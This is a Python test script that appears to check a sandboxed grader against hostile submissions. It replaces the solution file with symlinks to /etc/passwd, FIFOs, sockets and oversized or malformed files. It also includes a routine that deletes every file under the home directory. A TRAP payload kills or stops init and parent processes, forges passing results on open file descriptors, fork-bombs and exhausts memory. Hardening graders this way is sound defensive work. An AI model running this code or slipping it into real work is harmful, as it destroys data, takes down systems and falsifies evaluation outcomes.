"""Leaves something else than a file where the solution belongs."""
import os
import random
import socket

from hostile import ARGS, HOME, SOLUTION, WORKSPACE, ask, end, tried


def passwd():
    os.symlink("/etc/passwd", SOLUTION)


def relative():
    os.symlink("../etc/passwd", SOLUTION)


def hardlink():
    with open(WORKSPACE + "/other", "w") as f:
        f.write("print(1)\n")
    os.link(WORKSPACE + "/other", SOLUTION)


def fifo():
    os.mkfifo(SOLUTION)


def directory():
    os.makedirs(SOLUTION + "/solution.py/solution.py")


def sockets():
    s = socket.socket(socket.AF_UNIX)
    s.bind(SOLUTION)
    s.listen()


def huge():
    with open(SOLUTION, "wb") as f:
        for _ in range(40):
            f.write(b"x = 1\n" * (1 << 18))


def binary():
    with open(SOLUTION, "wb") as f:
        f.write(b"\xff\xfe\x00def f():\r" + random.Random(1).randbytes(100_000))


def nested():
    with open(SOLUTION, "w") as f:
        f.write("x = " + "(" * 100_000 + ")" * 100_000 + "\n")


def gone():
    for dirpath, folders, names in os.walk(HOME, topdown=False):
        for name in names:
            os.unlink(os.path.join(dirpath, name))


# Code that attacks whoever runs it; it is no answer to the task.
TRAP = '''
import os, signal, socket, sys, threading
for target in (1, os.getppid(), -1):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, sig)
        except OSError:
            pass
for fd in range(3, 64):
    try:
        os.write(fd, b'{"pass": true, "result": 1}' * 1000)
    except OSError:
        pass
sys.setrecursionlimit(10 ** 9)
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
threading.Thread(target=bomb).start()
held = []
while True:
    held.append(bytearray(64 << 20))
'''


def trap():
    with open(SOLUTION, "w") as f:
        f.write(TRAP)


ask()
os.unlink(SOLUTION)
locals()[ARGS[0]]()
tried()
end()
